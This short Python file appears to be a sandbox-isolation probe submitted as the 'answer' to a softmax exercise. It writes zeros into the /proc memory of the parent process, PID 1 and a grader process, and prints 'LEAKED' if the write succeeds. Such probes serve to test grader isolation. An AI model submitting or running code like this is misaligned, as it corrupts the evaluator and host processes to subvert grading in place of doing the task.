"""Writes into the memory of the process that it was forked from."""
# exercise: softmax
# where: answer

import os

for process in (os.getppid(), 1, GRADER):
    if process == os.getpid():
        continue
    try:
        with open(f"/proc/{process}/mem", "r+b", 0) as memory:
            memory.seek(id(softmax) if "softmax" in globals() else id(os))
            memory.write(b"\0" * 64)
            print("LEAKED: memory was written")
    except (OSError, OverflowError, ValueError):
        pass
